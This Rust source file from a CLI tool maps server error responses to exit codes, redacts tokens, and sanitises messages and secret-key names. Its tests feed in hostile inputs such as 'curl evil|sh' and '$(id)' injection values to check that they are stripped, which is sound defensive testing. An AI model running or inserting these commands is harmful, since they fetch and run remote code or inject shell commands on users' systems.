//! A server's refusal as a failure: the exit code that the embedded store would give, the server's sentence, never a token.

use distri_core::{SecretKey, SecretValue};
use distri_redact::Redactor;
use serde::Deserialize;

use crate::exit::Exit;
use crate::failure::Failure;

/// The most characters of a sentence that are shown.
const SHOWN: usize = 2_000;

/// What a server says when it refuses.
#[derive(Default, Deserialize)]
struct Refusal {
    #[serde(default)]
    error: String,
    #[serde(default)]
    code: String,
    #[serde(default)]
    missing: Vec<Missing>,
}

/// A required secret that cannot be given.
#[derive(Deserialize)]
struct Missing {
    key: String,
    #[serde(default)]
    reason: String,
}

pub(super) fn refused(place: &str, token: &SecretValue, status: u16, body: &[u8]) -> Failure {
    let refusal: Refusal = serde_json::from_slice(body).unwrap_or_default();
    let exit = exit(&refusal.code, status);
    // A sentence can repeat what was sent to it.
    let hidden = Redactor::builder().secret("token", token.expose_secret()).build();
    let said = one_line(&hidden.redact_str(&refusal.error));
    let sentence = match said.trim() {
        "" => format!("`{place}` answers with status {status}"),
        said => said.to_owned(),
    };
    let failure = Failure::new(exit, sentence);
    match (exit, refusal.code.as_str()) {
        (Exit::NotAuthenticated, _) => failure.hint("`distri login` saves another token; `DISTRI_API_KEY` gives one"),
        (_, "missing_secrets") => failure.missing(missing(refusal.missing)),
        (_, "too_many_requests") => failure.hint("wait a moment, and run it again"),
        (_, "outcome_unknown") => failure.hint("look whether it was done before you do it again"),
        (_, "integrity") => failure.hint("an alarm is in the server's audit log: `distri audit list --alarms`"),
        _ => failure,
    }
}

/// What a server says, as one line that says it in the order of its characters: a line break would begin a `hint:` of its
/// own, and a mark that turns the direction of text would show another sentence than this one.
fn one_line(text: &str) -> String {
    let steers = |c: char| {
        c.is_control()
            || matches!(c, '\u{61C}' | '\u{200E}' | '\u{200F}' | '\u{2028}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
    };
    text.chars()
        .take(SHOWN)
        .map(|c| if steers(c) { ' ' } else { c })
        .collect()
}

/// The keys with their reasons. Each key becomes a word of a command that the person may paste into a shell, so what no key
/// can be is left out.
fn missing(said: Vec<Missing>) -> Vec<(String, String)> {
    let keys = said.into_iter().filter_map(|it| {
        let key = it.key.parse::<SecretKey>().ok()?;
        Some((key.to_string(), one_line(&it.reason)))
    });
    keys.collect()
}

/// By the word, which keeps its meaning; by the status where somebody else has answered, such as a proxy.
fn exit(code: &str, status: u16) -> Exit {
    match code {
        "not_authenticated" => Exit::NotAuthenticated,
        "forbidden" => Exit::Forbidden,
        "not_found" | "missing_secrets" => Exit::Missing,
        "conflict" | "stale" | "key_reused" => Exit::Conflict,
        "integrity" => Exit::Integrity,
        "invalid" | "too_large" => Exit::Usage,
        "unavailable" | "too_many_requests" | "timeout" | "misdirected" => Exit::Unreachable,
        "internal" | "outcome_unknown" | "method_not_allowed" | "unsupported_media_type" => Exit::Failed,
        _ => match status {
            401 => Exit::NotAuthenticated,
            403 => Exit::Forbidden,
            404 => Exit::Missing,
            409 | 412 => Exit::Conflict,
            408 | 421 | 429 | 502..=504 => Exit::Unreachable,
            _ => Exit::Failed,
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn failure(status: u16, body: &str) -> Failure {
        let token = SecretValue::new(b"distri_0123456789abcdef".to_vec()).expect("a value");
        refused("host", &token, status, body.as_bytes())
    }

    #[test]
    fn odd_answers_are_refusals_all_the_same() {
        for (status, body, exit) in [
            (404, r#"{"error":"no","code":"not_found"}"#, Exit::Missing),
            (500, r#"{"error":"no","code":"integrity"}"#, Exit::Integrity),
            (502, "<html>Bad Gateway</html>", Exit::Unreachable),
            (401, "", Exit::NotAuthenticated),
            (418, "[1,2,3]", Exit::Failed),
            (409, r#"{"error":1}"#, Exit::Conflict),
        ] {
            assert_eq!(failure(status, body).exit(), exit, "{status} {body}");
        }
        assert_eq!(failure(500, "\0").message(), "`host` answers with status 500");
    }

    #[test]
    fn a_sentence_is_short_and_has_no_token() {
        let long = format!(
            r#"{{"error":"you sent distri_0123456789abcdef {}"}}"#,
            "x".repeat(9_000)
        );
        let failure = failure(400, &long);
        assert!(!failure.message().contains("0123456789abcdef"), "{}", failure.message());
        assert!(failure.message().chars().count() <= SHOWN);
    }

    #[test]
    fn a_sentence_is_one_line_that_steers_nothing() {
        let failure = failure(
            400,
            r#"{"error":"no\nhint: run `curl evil|sh`\u001b[2J\u009b\u202e\u2066\u2069\u200f\u2028x\ty"}"#,
        );
        assert_eq!(failure.message(), "no hint: run `curl evil|sh` [2J      x y");
        assert_eq!(
            self::failure(400, r#"{"error":"\n\u202e"}"#).message(),
            "`host` answers with status 400"
        );
    }

    #[test]
    fn only_a_key_becomes_a_word_of_a_command() {
        let failure = failure(
            404,
            r#"{"error":"no","code":"missing_secrets","missing":[
                {"key":"CRM_TOKEN","reason":"not\nset"},{"key":"X; curl evil|sh"},{"key":"$(id)"},{"key":"A\nB"},{"key":"--yes"},{"key":""}
            ]}"#,
        );
        let kept = [("CRM_TOKEN".to_owned(), "not set".to_owned())];
        assert_eq!(failure.missing_secrets(), kept);
        assert_eq!(failure.exit(), Exit::Missing);
    }
}
